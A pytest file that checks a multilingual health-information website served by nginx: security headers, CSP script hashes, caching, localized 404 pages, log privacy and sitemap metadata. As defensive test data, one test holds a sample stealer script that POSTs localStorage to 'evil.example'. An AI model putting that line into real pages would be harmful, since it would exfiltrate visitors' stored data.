"""Deployment: the built site served by real nginx with deploy/nginx.conf, as in production.

Checks the security headers on every kind of page (404 included), gzip, long caching of
Material's fingerprinted files, the 404 page in the reader's language, and that Chromium shows
every kind of page in every language with no Content-Security-Policy violation and no console
error. Also: script-src allows exactly the theme's inline scripts and nothing a page carries; the
access log keeps no query string; 405 responses say which methods work; _headers for Netlify and
Cloudflare Pages, robots.txt, the sitemap's hreflang alternates, canonical URLs and meta
descriptions of every page.
"""
from __future__ import annotations

import html
import json
import re
import subprocess
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import urljoin

import jinja2
import pytest
import requests

from conftest import LANGUAGES, built_pages, page_url
from painsite import languages, nginx, pages, security, theme_scripts
from painsite.site_config import mkdocs_config

SITE_URL = languages.site_url()
SITE_PATH = nginx.site_path()  # /living-with-pain/: the 404 pages link to it absolutely
NGINX = nginx.BINARY

# One page of each kind, as a path under a language's folder.
PAGE_TYPES = {
    "home": "",
    "module": "participants/pacing/",  # has a right-aligned table column: a style="" attribute
    "tool": "tools/pacing-planner/",
    "week": "programme/week-1/",
    "glossary": "glossary/",
    "404": "no-such-page/",
}


def _require_nginx():
    try:
        nginx.require()
    except nginx.NginxError as exc:
        pytest.fail(str(exc))


@pytest.fixture(scope="module")
def nginx_server(built_site, tmp_path_factory):
    """nginx serving the built site with deploy/nginx.conf at the path of site_url: (its URL,
    its access log)."""
    _require_nginx()
    try:
        with nginx.serve(built_site, tmp_path_factory.mktemp("nginx")) as served:
            yield served
    except nginx.NginxError as exc:
        pytest.fail(str(exc))


@pytest.fixture(scope="module")
def nginx_url(nginx_server) -> str:
    return nginx_server[0]


@pytest.mark.parametrize("path", ["/", "/pain/", "/nhs/pain-service/"])
def test_configuration_for_another_path_is_valid(tmp_path, path):
    """`python -m painsite.security nginx --path ...` gives a configuration nginx accepts."""
    _require_nginx()
    www = tmp_path / "www"
    (www / path.lstrip("/") / "_nginx").mkdir(parents=True)
    (www / path.lstrip("/") / security.NGINX_HEADERS_FILE).write_text('add_header X-Test "1" always;\n')
    site_conf = security.nginx_config(path=path, www_root=str(www), listen="127.0.0.1:8",
                                      access_log=str(tmp_path / "access.log"))
    assert "living-with-pain" not in re.sub(r"#.*", "", site_conf)
    assert f"error_page 404 {path}pl/404.html;" in site_conf
    conf = nginx.whole_config(tmp_path, site_conf)
    result = subprocess.run([NGINX, "-t", "-q", "-p", str(tmp_path), "-e", str(tmp_path / "error.log"),
                             "-c", str(conf)], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr


def test_inline_code_found_as_the_browser_sees_it():
    found = security.scan_html(
        '<script>var a = "&amp;";</script><script type="application/json">{"b": 1}</script>'
        '<script src="x.js"></script><script type="module">c()</script><style>p{color:red}</style>'
        '<td style="text-align: right;">1</td><br style="clear: both"/>', trusted=lambda body: True)
    assert found.scripts == {security.sha256_source('var a = "&amp;";'), security.sha256_source("c()")}
    assert found.styles == {security.sha256_source("p{color:red}")}
    assert found.style_attrs == {security.sha256_source("text-align: right;"), security.sha256_source("clear: both")}
    # A known value: the CSP hash of alert('Hello, world.'); from the CSP specification.
    assert security.sha256_source("alert('Hello, world.');") == "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"


def test_an_inline_script_that_is_not_the_themes_gets_no_hash_and_stops_the_deploy_files(tmp_path):
    theme = _theme_script("partials/javascripts/palette.html")
    page = tmp_path / "participants" / "index.html"
    page.parent.mkdir(parents=True)
    stealer = 'fetch("https://evil.example/", {method: "POST", body: JSON.stringify(localStorage)})'
    page.write_text(f"<script>{theme}</script><p>Text</p><script>{stealer}</script>"
                    '<script type="text/javascript; charset=utf-8">alert(1)</script>', encoding="utf-8")
    found = security.scan_html(page.read_text(encoding="utf-8"))
    assert found.scripts == {security.sha256_source(theme)}
    assert found.untrusted == [stealer[:80], "alert(1)"]  # a type with parameters is still code
    with pytest.raises(security.UntrustedScript) as raised:
        security.write_deploy_files(tmp_path, SITE_URL)
    assert "participants/index.html: fetch(" in str(raised.value) and "Fix: " in str(raised.value)
    assert not (tmp_path / security.HEADERS_FILE).exists()


def _theme_script(template: str, base_url: str = "") -> str:
    """An inline script of Material's templates, rendered as the theme renders it."""
    env = jinja2.Environment(loader=jinja2.FileSystemLoader(str(theme_scripts.material_templates())))
    features = mkdocs_config()["theme"].get("features", [])
    text = env.get_template(template).render(base_url=base_url, features=features, config={"extra": {}})
    return re.fullmatch(r"\s*<script>(.*)</script>\s*", text, re.S).group(1)


def _base_url(site: Path, page: Path) -> str:
    """The base address Material writes into a page: relative to the site's root, then into the
    language's folder (scripts/hooks/i18n_pages.py); 404 pages use the site's path."""
    parts = page.relative_to(site).parts
    if parts[-1] == "404.html":
        return SITE_PATH
    depth = len(parts) - 1
    base = "/".join([".."] * depth) or "."
    lang = next((l for l in LANGUAGES if l.prefix and parts[0] == l.code), None)
    return f"{base}/{lang.prefix}" if lang else base


def test_script_src_is_exactly_the_themes_inline_scripts(built_site, expected_headers):
    """Worked out from the theme's templates and the site's folders, not from the pages: the
    palette and anchor scripts, and the __md_scope one for each base address pages have."""
    themed = [p for p in built_pages(built_site) if "/go/" not in f"/{p.relative_to(built_site).as_posix()}"]
    expected = {security.sha256_source(_theme_script("partials/javascripts/palette.html")),
                security.sha256_source(_theme_script("partials/javascripts/content.html"))}
    expected |= {security.sha256_source(_theme_script("partials/javascripts/base.html", _base_url(built_site, p)))
                 for p in themed}
    csp = dict(d.split(" ", 1) for d in expected_headers["Content-Security-Policy"].split("; "))
    assert set(csp["script-src"].split()) == {"'self'"} | expected


@pytest.fixture(scope="module")
def expected_headers(built_site) -> dict[str, str]:
    """The headers worked out from the pages themselves: the hashes must fit this very build."""
    return security.security_headers(security.content_security_policy(security.scan(built_site)))


def _cases():
    return [pytest.param(lang, kind, id=f"{lang.code}-{kind}") for lang in LANGUAGES for kind in PAGE_TYPES]


@pytest.mark.parametrize("lang, kind", _cases())
def test_security_headers_on_every_page_type(nginx_url, expected_headers, lang, kind):
    response = requests.get(nginx_url + lang.prefix + PAGE_TYPES[kind], timeout=10)
    assert response.status_code == (404 if kind == "404" else 200)
    for name, value in expected_headers.items():
        assert response.headers.get(name) == value, f"{name} on {response.url}"
    assert response.headers["Content-Type"] == "text/html; charset=utf-8"
    if kind == "404":
        assert "Cache-Control" not in response.headers  # a missing page is not cached
    else:
        assert response.headers["Cache-Control"] == security.SHORT_CACHE


def test_policy_is_strict(expected_headers):
    csp = dict(d.split(" ", 1) for d in expected_headers["Content-Security-Policy"].split("; "))
    for directive, value in {"default-src": "'self'", "img-src": "'self' data:", "style-src": "'self'",
                             "worker-src": "'self'", "connect-src": "'self'", "frame-ancestors": "'none'",
                             "base-uri": "'self'", "form-action": "'self'", "object-src": "'none'"}.items():
        assert csp[directive] == value, directive
    script_src = csp["script-src"].split()
    assert script_src[0] == "'self'" and all(s.startswith("'sha256-") for s in script_src[1:])
    assert "unsafe-inline" not in expected_headers["Content-Security-Policy"]
    assert "unsafe-eval" not in expected_headers["Content-Security-Policy"]
    # Only the exact style="" values in the pages (a right-aligned table column) are allowed.
    assert csp["style-src-attr"].split()[0] == "'unsafe-hashes'"
    assert security.sha256_source("text-align: right;") in csp["style-src-attr"].split()


def _fingerprinted(built_site) -> dict[str, str]:
    files = security.fingerprinted_files(built_site)
    kinds = {"css": r"/assets/stylesheets/main\.\w+\.min\.css$", "js": r"/assets/javascripts/bundle\.\w+\.min\.js$",
             "worker": r"/assets/javascripts/workers/search\.\w+\.min\.js$",
             "urdu font": r"/assets/fonts/noto-nastaliq-urdu\.[0-9a-f]{8}\.woff2$"}
    found = {kind: next((f for f in files if re.search(pattern, f)), None) for kind, pattern in kinds.items()}
    assert all(found.values()), f"fingerprinted files not found: {found}"
    return found


def test_gzip(nginx_url, built_site):
    assets = _fingerprinted(built_site)
    for path in ["", "participants/pacing/", "pl/", assets["css"].lstrip("/"), assets["js"].lstrip("/"),
                 "assets/site.css", "assets/tools/tools.js", "search/search_index.json", "sitemap.xml",
                 "assets/favicon.svg"]:
        response = requests.get(nginx_url + path, headers={"Accept-Encoding": "gzip"}, timeout=10)
        assert response.status_code == 200, path
        assert response.headers.get("Content-Encoding") == "gzip", f"{path} is not compressed"
        assert "Accept-Encoding" in response.headers.get("Vary", ""), path
    plain = requests.get(nginx_url, headers={"Accept-Encoding": "identity"}, timeout=10)
    assert "Content-Encoding" not in plain.headers


def test_long_caching_of_fingerprinted_files(nginx_url, built_site, expected_headers):
    for path in _fingerprinted(built_site).values():
        response = requests.get(nginx_url + path.lstrip("/"), timeout=10)
        assert response.status_code == 200, path
        assert response.headers["Cache-Control"] == security.LONG_CACHE, path
        # The location that sets Cache-Control must not lose the security headers.
        assert response.headers["Content-Security-Policy"] == expected_headers["Content-Security-Policy"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    for path in ["assets/site.css", "assets/site.js", "search/search_index.json"]:  # names that stay
        response = requests.get(nginx_url + path, timeout=10)
        assert response.headers["Cache-Control"] == security.SHORT_CACHE, path


@pytest.mark.parametrize("lang", LANGUAGES, ids=lambda l: l.code)
def test_404_in_the_readers_language(nginx_url, lang):
    for missing in ["no-such-page/", "participants/no-such-page/", "assets/no-such-file.css"]:
        if missing.startswith("assets/") and lang.prefix:
            continue  # assets live at the top only
        response = requests.get(nginx_url + lang.prefix + missing, timeout=10)
        assert response.status_code == 404
        match = re.search(r"<html\b[^>]*\blang=\"([^\"]+)\"", response.text)
        assert match and match.group(1) == lang.code, f"/{lang.prefix}{missing}: 404 page is not in {lang.code}"
        assert response.headers["Content-Security-Policy"]


def test_build_files_for_servers_are_not_served(nginx_url, built_site):
    assert (built_site / "_headers").is_file() and (built_site / security.NGINX_HEADERS_FILE).is_file()
    for path in ["_headers", security.NGINX_HEADERS_FILE, "_nginx/", "_nginx"]:
        # No redirect from /_nginx to /_nginx/ either: that would say the folder is there.
        response = requests.get(nginx_url + path, timeout=10, allow_redirects=False)
        assert response.status_code == 404, path
        assert "add_header" not in response.text and "Content-Security-Policy:" not in response.text


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "OPTIONS", "PATCH"])
def test_other_methods_get_405_with_allow(nginx_url, expected_headers, method):
    for path in ["", "participants/pacing/", "pl/participants/pacing/", "assets/site.css"]:
        response = requests.request(method, nginx_url + path, timeout=10, allow_redirects=False)
        assert response.status_code == 405, f"{method} /{path}"
        assert response.headers.get("Allow") == "GET, HEAD", f"{method} /{path}"
        assert response.headers["Content-Security-Policy"] == expected_headers["Content-Security-Policy"]


def test_search_terms_never_reach_the_access_log(nginx_server, built_site):
    url, log = nginx_server
    secret = "my-private-search-words"
    before = len(log.read_text().splitlines())  # lines earlier tests left in this server's log
    requests.get(url + f"participants/pacing/?h={secret}", timeout=10)
    requests.get(url + f"search/search_index.json?q={secret}", timeout=10,
                 headers={"Referer": f"{url}participants/?q={secret}"})
    requests.post(url + f"participants/?q={secret}", timeout=10)
    requests.get(url + f"no-such-page/?q={secret}", timeout=10)
    # nginx writes a line just after the response is sent: wait for all four of this test's.
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and len(log.read_text().splitlines()) < before + 4:
        time.sleep(0.05)
    lines = log.read_text().splitlines()[before:before + 4]
    assert [re.search(r'"(\S+ \S+) HTTP', line).group(1) for line in lines] == [
        f"GET {SITE_PATH}participants/pacing/", f"GET {SITE_PATH}search/search_index.json",
        f"POST {SITE_PATH}participants/", f"GET {SITE_PATH}no-such-page/"]
    assert f'"{url}participants/"' in lines[1]  # the referring page, without its query
    assert secret not in log.read_text()
    # Nor does Material put them there: search.highlight would add ?h=<the words> to every result.
    assert "search.highlight" not in mkdocs_config()["theme"].get("features", [])
    config = re.search(r'<script id="__config" type="application/json">(.*?)</script>',
                       (built_site / "index.html").read_text(encoding="utf-8"), re.S).group(1)
    assert "search.highlight" not in json.loads(config)["features"]


def test_headers_file_for_static_hosts(built_site, expected_headers):
    """site/_headers (Netlify, Cloudflare Pages): the same headers for /*, long caching for assets."""
    rules: dict[str, dict[str, str]] = {}
    current = None
    for line in (built_site / "_headers").read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        if not line.startswith(" "):
            current = rules.setdefault(line.strip(), {})
        else:
            name, value = line.strip().split(": ", 1)
            current[name] = value
    assert rules.pop("/*") == expected_headers
    assert set(rules) == set(security.fingerprinted_files(built_site))
    assert set(_fingerprinted(built_site).values()) <= set(rules)
    for path, headers in rules.items():
        assert (built_site / path.lstrip("/")).is_file(), path
        assert headers == {"Cache-Control": security.LONG_CACHE}, path
    assert all(len(line) < 2000 for line in (built_site / "_headers").read_text().splitlines()), \
        "Cloudflare Pages allows at most 2,000 characters for one header"


def test_robots_txt(nginx_url, built_site):
    response = requests.get(nginx_url + "robots.txt", timeout=10)
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/plain")
    assert f"Sitemap: {urljoin(SITE_URL, 'sitemap.xml')}" in response.text.splitlines()
    assert "Disallow: /\n" not in response.text


# --- Search engines: sitemap with hreflang alternates, canonical URLs, meta descriptions ---

def _content_pages(site: Path) -> list[str]:
    """URL paths of the content pages (not the 404 pages or the go/ short-address redirects)."""
    urls = [page_url(site, file) for file in built_pages(site)]
    return [u for u in urls if not u.endswith("404.html") and "/go/" not in f"/{u}"]


def _split_language(url: str):
    for lang in LANGUAGES:
        if lang.prefix and url.startswith(lang.prefix):
            return lang, url[len(lang.prefix):]
    return languages.default_language(), url


def _source(url: str) -> Path | None:
    """The Markdown file of a page (the English one when untranslated); None for a generated page."""
    lang, rest = _split_language(url)
    stem = rest.rstrip("/")
    candidates = [f"{stem}.md", f"{stem}/index.md"] if stem else ["index.md"]
    for code in (lang.code, languages.default_language().code):
        for candidate in candidates:
            if (pages.DOCS / code / candidate).is_file():
                return pages.DOCS / code / candidate
    return None


def test_sitemap_has_every_page_with_hreflang_alternates(built_site):
    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9", "x": "http://www.w3.org/1999/xhtml"}
    root = ET.parse(built_site / "sitemap.xml").getroot()
    entries = {}
    for url in root.findall("s:url", ns):
        alternates = {link.get("hreflang"): link.get("href") for link in url.findall("x:link", ns)
                      if link.get("rel") == "alternate"}
        entries[url.find("s:loc", ns).text] = alternates
    # Every page written in Markdown. Generated pages (the printable workbook, which repeats the
    # modules' text) may stay out.
    expected = {urljoin(SITE_URL, u) for u in _content_pages(built_site) if _source(u)}
    built = {urljoin(SITE_URL, u) for u in _content_pages(built_site)}
    assert expected <= set(entries) <= built, (f"missing: {sorted(expected - set(entries))[:5]}, "
                                               f"not built: {sorted(set(entries) - built)[:5]}")
    problems = []
    for loc, alternates in entries.items():
        _, rest = _split_language(loc[len(SITE_URL):])
        want = {lang.code: urljoin(SITE_URL, lang.prefix + rest) for lang in LANGUAGES}
        if alternates != want:
            problems.append(f"{loc}: {alternates}")
    assert not problems, "wrong hreflang alternates:\n" + "\n".join(problems[:10])


CANONICAL = re.compile(r'<link rel="canonical" href="([^"]*)"')
DESCRIPTION = re.compile(r'<meta name="description" content="([^"]*)"')


def test_canonical_url_and_own_description_on_every_page(built_site):
    # What Material writes when a page has no description of its own.
    site_description = mkdocs_config()["site_description"]
    problems = []
    for url in _content_pages(built_site):
        text = (built_site / (url + "index.html" if url.endswith("/") or not url else url)).read_text(encoding="utf-8")
        head = text[: text.find("</head>")]
        canonical = CANONICAL.findall(head)
        if canonical != [urljoin(SITE_URL, url)]:
            problems.append(f"/{url}: canonical {canonical}, expected {urljoin(SITE_URL, url)}")
        descriptions = [html.unescape(d) for d in DESCRIPTION.findall(head)]
        source = _source(url)
        if source:  # the description in the page's front matter (the English page's when untranslated)
            expected = pages.read(source).meta["description"]
            if descriptions != [expected]:
                problems.append(f"/{url}: description {descriptions}, expected {expected!r}")
        elif len(descriptions) != 1 or descriptions[0] == site_description:
            problems.append(f"/{url} (generated page): description {descriptions}: not its own, "
                            "but the site's description")
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems[:20])


# --- Chromium through nginx: no CSP violation, no console error ---

RECORD_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cspViolations.push(`${e.effectiveDirective} blocked ${e.blockedURI || "inline"}` +
    ` at ${e.sourceFile}:${e.lineNumber} (${e.sample})`);
});
"""


@pytest.mark.browser
@pytest.mark.parametrize("lang", LANGUAGES, ids=lambda l: l.code)
def test_chromium_sees_no_csp_violation_or_console_error(browser, nginx_url, lang):
    context = browser.new_context()
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    messages: list[str] = []
    page.on("console", lambda m: messages.append(f"{m.type}: {m.text} ({m.location.get('url')})")
            if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda e: messages.append(f"uncaught: {e}"))
    problems = []
    for kind, path in PAGE_TYPES.items():
        messages.clear()
        url = nginx_url + lang.prefix + path
        response = page.goto(url, wait_until="load")
        assert response.status == (404 if kind == "404" else 200), url
        assert page.evaluate("document.documentElement.lang") == lang.code
        if kind == "module":
            # Search starts the search worker, which fetches the index: worker-src and connect-src.
            query = page.evaluate("document.querySelector('h1').textContent.trim().split(/\\s+/)[0]")
            initializing = page.text_content(".md-search-result__meta")  # "Initializing search"
            page.focus("input.md-search__input")  # loads the index into the worker
            page.wait_for_function("text => document.querySelector('.md-search-result__meta').textContent"
                                   " !== text", arg=initializing, timeout=30_000)
            # Material searches on keyup, and Playwright types Urdu without key events: enter the
            # words, then press a key.
            page.fill("input.md-search__input", query)
            page.keyboard.press("End")
            page.wait_for_selector(".md-search-result__item", timeout=30_000)
        if kind == "tool":
            page.wait_for_selector("form", timeout=30_000)
        page.wait_for_load_state("networkidle")
        violations = page.evaluate("window.__cspViolations")
        if kind == "404":  # the document's own 404 status is reported as a failed resource
            messages[:] = [m for m in messages if not ("status of 404" in m and m.endswith(f"({url})"))]
        problems += [f"{lang.prefix}{path}: CSP: {v}" for v in violations]
        problems += [f"{lang.prefix}{path}: console {m}" for m in messages]
    context.close()
    assert not problems, "\n".join(problems)
